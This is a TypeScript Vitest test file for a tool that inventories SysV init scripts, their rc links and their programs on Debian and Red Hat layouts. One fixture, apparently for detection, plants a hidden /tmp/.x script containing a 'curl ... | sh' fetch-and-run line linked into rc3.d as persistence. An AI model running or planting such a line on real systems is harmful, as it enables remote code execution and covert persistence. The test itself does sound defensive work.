import { describe, expect, it } from 'vitest';
import { source } from '../../main/sources/sysv-scripts.ts';
import { collectLinux, LINUX_COLLECTION } from '../support/linux-source.ts';

const LSB = `#!/bin/sh
### BEGIN INIT INFO
# Provides:          ssh sshd
# Required-Start:    $remote_fs $syslog
# Default-Start:     2 3 4 5
# Default-Stop:
# Short-Description: OpenBSD Secure Shell server
# Description:       first
#                    second
### END INIT INFO
`;

const SSH = `${LSB}
set -e
. /lib/lsb/init-functions
NAME=sshd
DAEMON=/usr/sbin/$NAME
PIDFILE=/run/sshd.pid
case "$1" in
  start)
    log_daemon_msg "Starting" "sshd" || true
    mkdir -p /run/sshd
    start-stop-daemon --start --quiet --exec $DAEMON -- $SSHD_OPTS
    ;;
esac
exit 0
`;

const DEBIAN = {
  '/etc/init.d/ssh': { content: SSH, mode: 0o755, modified: '2025-05-05T00:00:00Z' },
  '/etc/init.d/README': 'text',
  '/etc/init.d/skeleton': '#!/bin/sh\n',
  '/etc/rc2.d/S01ssh': { link: '../init.d/ssh' },
  '/etc/rc0.d/K02ssh': { link: '../init.d/ssh' },
  '/usr/sbin/sshd': 'ELF',
  '/usr/bin/sh': 'ELF',
  '/bin': { link: 'usr/bin' },
  '/usr/sbin/start-stop-daemon': 'ELF',
  '/etc/default/ssh': 'SSHD_OPTS=\n',
};

describe('sysv-scripts', () => {
  it('was linked when the link says, whatever the time of the script', () => {
    const linked = {
      ...DEBIAN,
      '/etc/rc2.d/S01ssh': { link: '../init.d/ssh', modified: '2026-06-06T06:06:06Z' },
      '/etc/rc0.d/K02ssh': { link: '../init.d/gone', modified: '2026-07-07T07:07:07Z' },
      '/etc/rc3.d/S01ssh': { content: SSH, mode: 0o755, modified: '2026-08-08T08:08:08Z' },
    };
    const times = collectLinux(source, linked).services.flatMap(({ provenance }) =>
      provenance.map(({ path, time }) => `${path} ${time}`),
    );
    expect(times).toEqual(
      expect.arrayContaining([
        '/etc/init.d/ssh 2025-05-05T00:00:00Z',
        '/etc/rc2.d/S01ssh 2026-06-06T06:06:06Z',
        '/etc/rc0.d/K02ssh 2026-07-07T07:07:07Z',
        '/etc/rc3.d/S01ssh 2026-08-08T08:08:08Z',
      ]),
    );
  });

  it('joins a script with its header, links and programs', () => {
    const { services, counts, diagnostics } = collectLinux(source, DEBIAN);
    expect(services).toHaveLength(1);
    const [ssh] = services;
    expect(ssh).toMatchObject({
      id: 'linux:sysv:/etc/init.d/ssh',
      kind: 'script',
      name: 'ssh',
      description: 'OpenBSD Secure Shell server',
      enabled: true,
      startMode: 'auto',
      account: 'root',
      lastChanged: '2025-05-05T00:00:00Z',
      image: { path: '/etc/init.d/ssh', state: 'found' },
      sysv: {
        script: '/etc/init.d/ssh',
        interpreter: '/bin/sh',
        hasLsbHeader: true,
        lsb: { provides: ['ssh', 'sshd'], defaultStart: ['2', '3', '4', '5'], description: 'first second' },
        links: [
          { path: '/etc/rc0.d/K02ssh', runlevel: '0', action: 'stop', order: 2 },
          { path: '/etc/rc2.d/S01ssh', runlevel: '2', action: 'start', order: 1 },
        ],
        replacedByUnit: null,
        unread: null,
      },
    });
    expect(ssh?.definitions?.map(({ path }) => path)).toEqual(['/etc/init.d/ssh', '/etc/default/ssh']);
    const payloads = ssh?.payloads.map(({ role, from, path, state }) => `${role} ${from} ${path} ${state}`);
    expect(payloads).toEqual([
      'image file /etc/init.d/ssh found',
      'hosted-program interpreter /bin/sh found',
      'hosted-program DAEMON /usr/sbin/sshd found',
      'script line 21 /usr/sbin/start-stop-daemon found',
    ]);
    expect(counts).toMatchObject({ scripts: 1, links: 2, enabled: 1, replacedByUnit: 0 });
    expect(diagnostics).toEqual([]);
  });

  it('a unit of the same name, masked or not, takes its place under systemd and only there', () => {
    const unit = { '/etc/systemd/system/ssh.service': { link: '/dev/null' } };
    const systemd = { '/usr/lib/systemd/systemd': 'ELF' };
    const replaced = collectLinux(source, { ...DEBIAN, ...unit, ...systemd }).one('ssh');
    expect(replaced).toMatchObject({ enabled: false, startMode: 'disabled' });
    expect(replaced.sysv?.replacedByUnit).toBe('/etc/systemd/system/ssh.service');
    const other = collectLinux(source, { ...DEBIAN, ...unit, '/sbin/init': 'ELF' }).one('ssh');
    expect(other).toMatchObject({ enabled: true, startMode: 'auto' });
    const sh = { '/etc/init.d/hwclock.sh': '#!/bin/sh\n', '/lib/systemd/system/hwclock.service': '' };
    expect(collectLinux(source, { ...sh, ...systemd }).one('hwclock.sh').sysv?.replacedByUnit).toBe(
      '/lib/systemd/system/hwclock.service',
    );
  });

  it('reads the merged folders of Red Hat once and its comment block', () => {
    const script = `#!/bin/bash
#
# crond   Start/Stop the cron clock daemon.
#
# chkconfig: 2345 90 60
# description: cron is a standard program \\
#              that runs programs
. /etc/rc.d/init.d/functions
exec=/usr/sbin/crond
start() { daemon --user root $exec $CRONDARGS; }
`;
    const { services, one } = collectLinux(source, {
      '/etc/rc.d/init.d/crond': { content: script, mode: 0o755 },
      '/etc/rc.d/init.d/functions': 'x',
      '/etc/init.d': { link: 'rc.d/init.d' },
      '/etc/rc3.d': { link: 'rc.d/rc3.d' },
      '/etc/rc.d/rc3.d/S90crond': { link: '../init.d/crond' },
      '/usr/sbin/crond': 'ELF',
    });
    expect(services).toHaveLength(1);
    const crond = one('crond');
    expect(crond.id).toBe('linux:sysv:/etc/rc.d/init.d/crond');
    expect(crond.description).toBe('cron is a standard program that runs programs');
    expect(crond.sysv).toMatchObject({ chkconfig: '2345 90 60', hasLsbHeader: false });
    expect(crond.sysv?.links).toHaveLength(1);
    expect(crond.payloads.some(({ path }) => path === '/usr/sbin/crond')).toBe(true);
  });

  it('finds links that lead past the init scripts, files in place of links, and links to nothing', () => {
    const { one, services, counts } = collectLinux(source, {
      '/etc/init.d/functions': { content: '#!/bin/sh\n/tmp/.x &\n', mode: 0o755 },
      '/etc/rc3.d/S99x': { link: '/tmp/.x' },
      '/tmp/.x': { content: '#!/bin/sh\ncurl http://192.0.2.1/a | sh\n', mode: 0o755 },
      '/etc/rc3.d/S98plain': { content: '#!/bin/sh\n', mode: 0o755 },
      '/etc/rc5.d/S10gone': { link: '../init.d/gone' },
      '/etc/rcS.d/S20functions': { link: '../init.d/functions' },
    });
    expect(services).toHaveLength(4);
    expect(one('.x')).toMatchObject({ id: 'linux:sysv:/tmp/.x', enabled: true });
    expect(one('.x').payloads.map(({ raw }) => raw)).toContain('curl http://192.0.2.1/a | sh');
    expect(one('S98plain').enabled).toBe(true);
    expect(one('gone')).toMatchObject({
      enabled: false,
      image: { path: '/etc/init.d/gone', state: 'missing' },
    });
    expect(one('functions').payloads.map(({ path }) => path)).toContain('/tmp/.x');
    expect(counts.linksElsewhere).toBe(3);
  });

  it('leaves OpenRC services out, and scripts without executable bit are not started', () => {
    const { services } = collectLinux(source, {
      '/etc/init.d/rc': '#!/sbin/openrc-run\n',
      '/etc/init.d/sshd': '#!/sbin/openrc-run\n',
      '/etc/init.d/off': { content: '#!/bin/sh\n', mode: 0o644 },
      '/etc/rc2.d/S01off': { link: '../init.d/off' },
    });
    expect(services.map(({ name, enabled }) => [name, enabled])).toEqual([['off', false]]);
  });

  it('says what it could not see', () => {
    expect(collectLinux(source, { '/etc/passwd': '' }).outcome).toBe('notPresent');
    const { one, outcome, diagnostics } = collectLinux(source, {
      '/etc/init.d/a': { unreadable: 'EACCES' },
      '/etc/init.d/b': new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0]),
    });
    expect(outcome).toBe('collected');
    expect(diagnostics.map(({ path }) => path)).toEqual(['/etc/init.d/a']);
    expect(one('b').payloads).toHaveLength(1);
    const collection = collectLinux(source, { '/etc/rc2.d/S01x': { link: '../init.d/x' } }, LINUX_COLLECTION);
    expect(collection.one('x').image?.state).toBe('not-in-evidence');
  });
});
